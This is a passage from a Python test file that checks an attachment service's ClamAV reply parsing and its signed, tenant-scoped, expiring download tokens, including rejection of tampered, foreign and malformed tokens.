        _scanner(clamd, chunk_size=32 * 1024).scan(io.BytesIO(os.urandom(2 * MiB)))


def test_clamd_reply_parsing():
    scanner = ClamdScanner(host="127.0.0.1", port=3310)
    assert scanner._verdict("stream: OK") == ScanResult(clean=True, scanner="clamd")
    assert scanner._verdict("stream: Win.Test.EICAR_HDB-1 FOUND").signature == "Win.Test.EICAR_HDB-1"
    for reply in ("", "stream: FOUND", "INSTREAM size limit exceeded. ERROR", "stream: Can't allocate memory ERROR"):
        with pytest.raises(ScannerUnavailable):
            scanner._verdict(reply)


def test_clamd_refuses_a_non_positive_timeout():
    with pytest.raises(ImproperlyConfigured):
        ClamdScanner(host="127.0.0.1", port=3310, timeout=0)


# --- download tokens ----------------------------------------------------------------------


def test_token_round_trip_and_url_safety():
    token = make_download_token(schema="t_alpha", attachment_id=41, user_id=7, ttl_seconds=300)
    assert re.fullmatch(r"[A-Za-z0-9_.-]+", token)
    assert quote(token, safe="") == token
    assert read_download_token(token, schema="t_alpha") == DownloadGrant(attachment_id=41, user_id=7)


def test_token_expires_after_its_ttl():
    now = time.time()
    with mock.patch("time.time", return_value=now - 301):
        old = make_download_token(schema="t_alpha", attachment_id=1, user_id=2, ttl_seconds=300)
    with mock.patch("time.time", return_value=now - 290):
        recent = make_download_token(schema="t_alpha", attachment_id=1, user_id=2, ttl_seconds=300)
    with pytest.raises(TokenExpired) as exc:
        read_download_token(old, schema="t_alpha")
    assert exc.value.status == 403
    assert "expired" in exc.value.message
    assert read_download_token(recent, schema="t_alpha").attachment_id == 1


def test_token_from_another_tenant_is_invalid():
    token = make_download_token(schema="t_alpha", attachment_id=1, user_id=2, ttl_seconds=300)
    with pytest.raises(TokenInvalid):
        read_download_token(token, schema="t_beta")


def test_tampered_and_foreign_tokens_are_invalid(settings):
    token = make_download_token(schema="t_alpha", attachment_id=1, user_id=2, ttl_seconds=300)
    forged_payload = signing.b64_encode(b'{"a":99,"u":2,"t":300}').decode()
    forged = ".".join([forged_payload, *token.split(".")[1:]])
    other_purpose = signing.TimestampSigner(salt="warden.password-reset:t_alpha", sep=".").sign_object(
        {"a": 1, "u": 2, "t": 300}
    )
    for bad in (forged, token[:-2], token + "x", "", "not-a-token", other_purpose, "a" * 600):
        with pytest.raises(TokenInvalid):
            read_download_token(bad, schema="t_alpha")
    settings.SECRET_KEY = "a-rotated-secret-key"
    with pytest.raises(TokenInvalid):
        read_download_token(token, schema="t_alpha")
    settings.SECRET_KEY_FALLBACKS = ["test-only-secret-key"]
    assert read_download_token(token, schema="t_alpha").user_id == 2


def test_a_validly_signed_but_malformed_payload_is_invalid():
    signer = signing.TimestampSigner(salt="warden.attachment.download:t_alpha", sep=".")
    for payload in ({"a": "1", "u": 2, "t": 300}, {"a": 1, "u": 2}, [1, 2, 300], {"a": True, "u": 2, "t": 300}):
        with pytest.raises(TokenInvalid):
            read_download_token(signer.sign_object(payload), schema="t_alpha")


@pytest.mark.parametrize(
    "kwargs",
    [
        {"ttl_seconds": 0},
        {"ttl_seconds": 8 * 24 * 3600},
        {"attachment_id": 0},
        {"user_id": -1},
        {"schema": ""},
    ],
)
def test_make_download_token_rejects_bad_arguments(kwargs):
    with pytest.raises(ValueError):
        make_download_token(**{"schema": "t_alpha", "attachment_id": 1, "user_id": 2, "ttl_seconds": 60, **kwargs})


def test_defaults_apply_when_the_settings_are_absent(settings):
    for name in ("WARDEN_ATTACHMENT_MAX_BYTES", "WARDEN_ATTACHMENT_ALLOWED_TYPES"):
        if hasattr(settings, name):
            delattr(settings, name)
    assert max_upload_bytes() == 10 * MiB
    assert allowed_upload_types() == frozenset(DEFAULT_ALLOWED)
